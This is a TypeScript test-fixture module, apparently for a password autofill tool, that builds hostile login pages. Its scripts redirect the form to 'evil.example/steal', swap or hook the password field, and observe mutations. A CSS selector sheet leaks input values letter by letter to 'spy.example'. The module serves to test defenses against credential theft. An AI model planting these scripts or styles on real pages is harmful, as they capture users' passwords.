import { loginForm, page } from './html.ts';

/** A page whose script works against the fill; each gathers what it can see in `window.loot`. */
export interface HostileScript {
  readonly name: string;
  readonly html: string;
  /** Whether the password may be in its own field after the fill: the change came after everything was written. */
  readonly passwordMayLand: boolean;
}

const form = loginForm('id="f" method="post" action="/login"');
const script = (code: string): string =>
  page(
    `${form}<script>window.loot = []; const f = document.getElementById('f'); const u = f.elements.username; const p = f.elements.password; ${code}</script>`,
  );

/** What pages do while they are being filled. */
export const hostileScripts: readonly HostileScript[] = [
  {
    name: 'sends the form elsewhere on the first input event',
    html: script(
      `u.addEventListener('input', () => { loot.push(['password at user name event', p.value !== '' ? 'written' : 'empty']); f.action = 'https://evil.example/steal'; p.type = 'text'; });`,
    ),
    passwordMayLand: true,
  },
  {
    name: 'swaps the password field before it is written',
    html: script(
      `const swap = () => { const n = document.createElement('input'); n.type = 'text'; n.name = 'password'; n.id = 'swapped'; p.replaceWith(n); }; u.addEventListener('focus', swap); p.addEventListener('focus', swap); u.addEventListener('beforeinput', swap);`,
    ),
    passwordMayLand: true,
  },
  {
    name: 'watches every mutation',
    html: script(
      `new MutationObserver((m) => loot.push(...m.map((x) => x.type + ':' + x.attributeName))).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });`,
    ),
    passwordMayLand: true,
  },
  {
    name: 'replaces the prototypes',
    html: script(
      `const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); Object.defineProperty(HTMLInputElement.prototype, 'value', { get() { return d.get.call(this); }, set(v) { loot.push('setter:' + v); d.set.call(this, v); } }); HTMLInputElement.prototype.getBoundingClientRect = () => ({ width: 0, height: 0 }); window.getComputedStyle = () => { loot.push('style'); return {}; }; Document.prototype.elementFromPoint = () => { loot.push('point'); return null; }; window.chrome = undefined;`,
    ),
    passwordMayLand: true,
  },
];

/** Styles that report a value by its attribute, letter by letter. */
export const spyingStyles = page(
  form,
  `<style>${[...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789']
    .map((letter) => `input[value^="${letter}"]{background-image:url(https://spy.example/${letter})}`)
    .join('')}</style>`,
);

/** Counts what a page can notice of a fill beyond the values. */
export const noticingPage = script(`
  window.seen = { submit: 0, click: 0, focus: 0, key: 0, input: [] };
  addEventListener('submit', (e) => { e.preventDefault(); seen.submit++; }, true);
  addEventListener('click', () => seen.click++, true);
  addEventListener('focus', () => seen.focus++, true);
  addEventListener('keydown', () => seen.key++, true);
  addEventListener('input', (e) => seen.input.push([e.target.id, e.isTrusted, p.value !== '']), true);
`);
